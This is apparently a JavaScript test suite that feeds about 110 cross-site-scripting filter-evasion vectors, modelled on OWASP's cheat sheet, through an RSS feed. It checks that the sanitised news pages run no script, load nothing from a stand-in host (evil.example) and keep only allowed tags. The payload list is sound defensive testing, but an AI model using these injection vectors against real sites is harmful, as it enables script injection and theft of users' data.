// HTML of a foreign feed on our pages: no script runs, no style, no form, no foreign request. The kinds of vectors are those of
// OWASP's cheat sheet on filter evasion; the texts are our own.
import assert from 'node:assert/strict'
import {mkdtemp, rm, writeFile} from 'node:fs/promises'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {assertNothingToMind, openPage, startBrowser} from './browser.mjs'
import {share, test} from './fixtures.mjs'
import {startPartner} from './partner.mjs'
import {startProgram} from './program.mjs'

const run = 'window.ran=1'
const vectors = [
  `<script>${run}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>${run}</script>`, `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`, `<<script>${run}//<</script>`, `<script>${run}`, `<script type="module">${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`,
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}"//`, `<img """><script>${run}</script>">`, `<img src="javascript:${run}">`,
  `<img src=//evil.example/pixel.gif>`, `<img/src=x/onerror=${run}>`, `<img src=x\x0conerror=${run}>`, `<image src=x onerror=${run}>`,
  `<img srcset="//evil.example/a 1x">`, `<picture><source srcset=//evil.example/b><img></picture>`, `<body onload=${run}>`, `<body background=//evil.example/c>`,
  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><a xlink:href="javascript:${run}"><text x=1 y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${run}>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<svg><foreignObject><iframe srcdoc="<script>${run}</script>">`,
  `<math><mi><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mi></math>`, `<math href="javascript:${run}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`, `<table><math><mi></><![CDATA[q]]>p`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src=//evil.example/></iframe>`, `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`, `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`, `<embed src="javascript:${run}">`, `<applet code=x>`, `<a href="javascript:${run}">a</a>`,
  `<a href=" &#14; javascript:${run}">b</a>`, `<a href="jav&#x09;ascript:${run}">c</a>`, `<a href="jav&#x0A;ascript:${run}">d</a>`, `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}">e</a>`,
  `<a href="JaVaScRiPt:${run}">f</a>`, `<a href="java\0script:${run}">g</a>`, `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=">h</a>`, `<a href="vbscript:${run}">i</a>`,
  `<a href="view-source:https://news.example">j</a>`, `<a href="https://news.example/&quot; onclick=&quot;${run}">k</a>`, `<a href="https://news.example/" onclick="${run}" target="x" ping="//evil.example/p">l</a>`,
  `<a href='https://news.example/"><img src=x onerror=${run}>'>m</a>`, `<a href="//evil.example/ok">n</a>`, `<a href="https://user:pass@news.example/">o</a>`, `<a href="https://news.example/" style="position:fixed;inset:0">p</a>`,
  `<base href="//evil.example/">`, `<link rel=stylesheet href=//evil.example/d.css>`, `<link rel=import href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<meta charset=utf-7>+ADw-script+AD4-`,
  `<style>*{display:none}</style>`, `<style>@import "//evil.example/e.css"</style>`, `<p style="background:url(//evil.example/f)">q</p>`, `<div style="width:expression(${run})">r</div>`, `<style></style\n<img src=x onerror=${run}>`,
  `<form action="//evil.example/"><input name=password autofocus onfocus=${run}><button>s</button></form>`, `<input type=image src=//evil.example/g formaction="javascript:${run}">`, `<isindex action="javascript:${run}">`,
  `<textarea></textarea><img src=x onerror=${run}></textarea>`, `<select onfocus=${run} autofocus><option>t</select>`, `<details open ontoggle=${run}><summary>u</summary></details>`, `<video src=//evil.example/h onerror=${run}></video>`,
  `<video poster=//evil.example/i></video>`, `<audio src=x onerror=${run} autoplay></audio>`, `<marquee onstart=${run}>v</marquee>`, `<keygen autofocus onfocus=${run}>`, `<dialog open>w</dialog>`, `<p onclick=${run} tabindex=1 onfocus=${run} autofocus id=x accesskey=x>x</p>`,
  `<blockquote cite="javascript:${run}">y</blockquote>`, `<q cite="//evil.example/j" onmouseover=${run}>z</q>`, `<custom-element is=x onclick=${run}>aa</custom-element>`, `<slot name=x onslotchange=${run}>bb</slot>`, `<title><img src=x onerror=${run}></title>`,
  `<xmp><img src=x onerror=${run}></xmp>`, `<plaintext><img src=x onerror=${run}>`, `<listing>&lt;img src=x onerror=${run}&gt;</listing>`, `<!--><img src=x onerror=${run}>-->`, `<!-- --!><img src=x onerror=${run}>`, `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`, `<!DOCTYPE html SYSTEM "//evil.example/k">`, `</p></article></main><img src=x onerror=${run}>`, `</div></div></body></html><script>${run}</script>`, `&lt;script&gt;${run}&lt;/script&gt;`, `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `<a name=getElementById><form name=body><input name=attributes></form></a>`, `<p id=latest-news class="ln-item ln">cc</p>`, `<p slot=x is=y part=z contenteditable>dd</p>`, `<p>${'<b>'.repeat(600)}deep</p>`, `<ul><li><ol><li><blockquote><pre><code>ee</ul>`,
  `<b><script>${run}</b></script>`, `{{{title}}} {{#items}}{{/items}} <p>{{title}}</p>`, `<p>\u202Eevil\u202C <bdo dir=rtl>ff</bdo></p>`, `<plaintext/onmouseover=${run}>gg`, `<marquee><img src=x onerror=${run}></marquee>`, `<noembed><img src=x onerror=${run}></noembed>`, `<noframes><img src=x onerror=${run}></noframes>`,
]

const escaped = (text) => text.replace(/[\0]/g, '').replace(/\f/g, ' ').replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')
const rss = `<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Hostile</title><link>https://news.example/</link>${
  vectors.map((vector, number) => `<item><title>Vector ${number} ${escaped(vector)}</title><guid isPermaLink="false">v${number}</guid><content:encoded>${escaped(`<p>before</p>${vector}<p>behind</p>`)}</content:encoded></item>`).join('')
}</channel></rss>`

const allowed = ['a', 'article', 'blockquote', 'br', 'cite', 'code', 'dd', 'del', 'div', 'dl', 'dt', 'em', 'h1', 'h2', 'ins', 'li', 'ol', 'p', 'pre', 'q', 'strong', 'sub', 'sup', 'time', 'ul']

async function startHostile() {
  const folder = await mkdtemp(join(tmpdir(), 'latest-news-hostile-'))
  await writeFile(join(folder, 'feed.xml'), rss)
  const program = await startProgram('--news', join(folder, 'feed.xml'))
  return {...program, async stop() { await program.stop(); await rm(folder, {recursive: true}) }}
}

const shared = share({hostile: startHostile, partner: startPartner, browser: startBrowser})

test('hostile markup: nothing runs, loads or hides on an item\'s page, even without our policy', async () => {
  const page = await openPage(shared.browser)
  for (let number = 0; number < vectors.length; ++number) {
    const answer = await fetch(`${shared.hostile.origin}/items/v${number}`)
    assert.equal(answer.status, 200)
    const html = await answer.text()
    // From a server that sends no Content-Security-Policy: the markup itself must be harmless.
    shared.partner.pages['/'] = {body: html}
    await page.goto(shared.partner.origin + '/')
    const found = await page.evaluate(() => ({
      ran: window.ran,
      elements: [...new Set([...document.querySelectorAll('article, article *')].map(({localName}) => localName))],
      attributes: [...new Set([...document.querySelectorAll('.ln-text *')].flatMap((element) => element.getAttributeNames()))],
      schemes: [...document.querySelectorAll('article a')].map(({protocol}) => protocol),
      scripts: document.querySelectorAll("script:not([type=\"application/ld+json\"])").length,
      articles: document.querySelectorAll('article').length,
      text: document.querySelector('article').innerText,
    }))
    const say = `${number}: ${vectors[number]}\n${html}`
    assert.equal(found.ran, undefined, say)
    assert.equal(found.articles, 1, say)
    assert.equal(found.scripts, 0, say)
    assert.deepEqual(found.elements.filter((name) => !allowed.includes(name)), [], say)
    assert.deepEqual(found.attributes.filter((name) => !['href', 'rel', 'dir', 'lang', 'target', 'start'].includes(name)), [], say)
    assert.deepEqual(found.schemes.filter((scheme) => !['http:', 'https:', 'mailto:'].includes(scheme)), [], say)
    assert.match(found.text, /before/, say)
  }
  page.complaints = page.complaints.filter((line) => !line.includes('404')) // the page's icon
  await assertNothingToMind(page, shared.partner.origin)
  await page.context().close()
})

test('hostile markup: in lists it is text', async () => {
  const page = await openPage(shared.browser)
  shared.partner.pages['/'] = {body: `<!DOCTYPE html><title>x</title><main><script src="${shared.hostile.origin}/latest-news.js?limit=100"></script></main>`}
  await page.goto(shared.partner.origin + '/')
  await page.locator('article').nth(99).waitFor()
  assert.equal(await page.evaluate(() => window.ran), undefined)
  const elements = await page.locator('section.ln').evaluate((section) => [...new Set([...section.querySelectorAll('*')].map(({localName}) => localName))])
  assert.deepEqual(elements.filter((name) => !allowed.includes(name) && !['h3', 'section'].includes(name)), [])
  await assertNothingToMind(page, shared.hostile.origin, shared.partner.origin)
  await page.context().close()
})
